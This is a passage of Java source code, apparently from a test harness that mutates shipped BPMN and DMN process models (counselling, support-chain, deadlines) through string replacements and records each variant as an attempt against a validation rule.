        if (row.find() && row.group().contains(old)) {
            String before = row.group();
            int at = old.equals("<text></text>") ? before.indexOf(old) : before.lastIndexOf(old);
            String after = before.substring(0, at) + changed + before.substring(at + old.length());
            replace("deadlines.dmn", before, after, rule);
        } else if (rule != null) {
            throw new IllegalStateException("row " + step + " " + old);
        }
    }

    private void on(String element, String attribute, Rule rule) {
        replaceFirst(
                element.equals("process") ? "counselling.bpmn" : "support-chain.bpmn",
                "<bpmn:" + element + " ",
                "<bpmn:" + element + " " + attribute + " ",
                rule);
    }

    private void into(String model, String element, Rule rule) {
        replace(model, "</bpmn:process>", element + "</bpmn:process>", rule);
    }

    private void extension(String model, String element, Rule rule) {
        replaceFirst(model, "<bpmn:extensionElements>", "<bpmn:extensionElements>" + element, rule);
    }

    private void component(String file, String component, Rule rule) {
        replaceFirst(
                file,
                "\"components\"\\s*:\\s*\\[",
                "\"components\":[" + Matcher.quoteReplacement(component) + ",",
                rule);
    }

    private void replace(String file, String old, String changed, Rule rule) {
        String text = ShippedModels.text(file);
        int at = text.indexOf(old);
        if (at >= 0 && !old.equals(changed)) {
            add(
                    file + ": " + changed,
                    ShippedModels.one(file, text.substring(0, at) + changed + text.substring(at + old.length())),
                    rule);
        } else if (rule != null && !old.equals(changed)) {
            throw new IllegalStateException(file + " has no " + old);
        }
    }

    private void replaceFirst(String file, String old, String changed, Rule rule) {
        String text = ShippedModels.text(file);
        boolean literal = text.contains(old);
        String after = literal
                ? text.replaceFirst(
                        Pattern.quote(old),
                        changed.contains("$1") ? changed : Matcher.quoteReplacement(changed.replace("\\\\", "\\")))
                : text.replaceFirst(old, changed);
        if (!after.equals(text)) {
            add(file + ": " + changed, ShippedModels.one(file, after), rule);
        }
    }

    private void add(String what, ModelFiles files, Rule rule) {
        if (rule != null) {
            attempts.add(new Attempt(what, files, rule));
        }
    }
}
